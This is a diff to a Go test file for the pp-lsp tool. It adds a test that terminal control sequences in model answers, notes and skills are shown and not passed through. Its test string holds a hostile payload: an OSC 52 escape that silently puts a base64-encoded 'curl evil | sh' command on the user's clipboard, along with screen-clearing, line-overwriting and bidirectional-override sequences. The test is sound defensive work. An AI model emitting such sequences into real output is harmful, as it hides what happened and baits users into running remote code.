@@ -20,6 +20,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"pp-lsp/gates"
+	"pp-lsp/providers/providertest"
 	"pp-lsp/server/flightplan"
 	"pp-lsp/server/journal"
 )
@@ -305,4 +306,48 @@ func malformedLSPMessage(t *testing.T) {
 	case <-time.After(20 * time.Second):
 		t.Fatal("pp-lsp --stdio did not exit")
 	}
+}
+
+// controlSequences set the clipboard (OSC 52: a command for the user to
+// paste), clear the screen, and move back over the line before to write
+// another; a C1 CSI and a right-to-left override.
+const controlSequences = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H\r\x1b[1A\x1b[2Knothing ran\u009b2J\u202e"
+
+// terminalControls: a hostile model's answer, an action's proposal and a
+// malicious note's text read by an action all carry terminal control
+// sequences; what `pp-lsp ask` and `pp-lsp skills` print (stdout and
+// stderr: the user's terminal) holds no control character but the line
+// feed and the tab, and shows each sequence, so that nothing is hidden
+// or done by the terminal.
+func terminalControls(t *testing.T) {
+	w := newWorld(t, map[string]string{
+		"memex/notes/escapes.org": "* Escapes\nA note with " + controlSequences + " in it.\n",
+		"memex/skills/evil.org":   "* Tidy " + strings.ReplaceAll(controlSequences, "\r", "") + " :skill:\n:PROPERTIES:\n:TRIGGER: tidy\n:END:\nBe tidy.\n",
+	})
+	clean := func(t *testing.T, what, s string) {
+		t.Helper()
+		for _, r := range s {
+			if r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x202a && r <= 0x202e) {
+				t.Errorf("%s holds the control character %U: %q", what, r, s)
+				return
+			}
+		}
+		assert.Contains(t, s, "^[]52;c;", "%s shows the sequence", what)
+	}
+	for _, format := range formats {
+		t.Run(format, func(t *testing.T) {
+			srv := w.models[format]
+			srv.Push(words(format, "Your notes are tidy."+controlSequences),
+				framesOf(format, providertest.Answer{Calls: []providertest.Call{{ID: "c1", Name: "file_read",
+					Args: `{"path":"notes/escapes.org","explanation":"to see what it says"}`}}}),
+				words(format, "Done."), words(format, "Done."))
+			for range 2 {
+				_, out, errs := w.askOnce(t, format)
+				clean(t, "ask's stdout and stderr", out+errs)
+			}
+			srv.Drop()
+		})
+	}
+	_, out, errs := w.pplsp(t, nil, "skills", "--root", w.root)
+	clean(t, "skills' stdout and stderr", out+errs)
 }
